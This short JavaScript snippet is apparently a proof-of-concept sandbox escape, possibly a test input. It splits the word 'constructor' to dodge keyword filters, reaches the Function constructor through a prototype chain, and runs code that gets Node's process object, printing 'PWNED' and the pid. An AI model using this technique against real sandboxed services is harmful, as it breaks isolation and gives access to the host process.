const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
const o = { __proto__: t, run(f) { return super.go(f); } };
console.log('PWNED', o.run(fn)('return process')().pid);
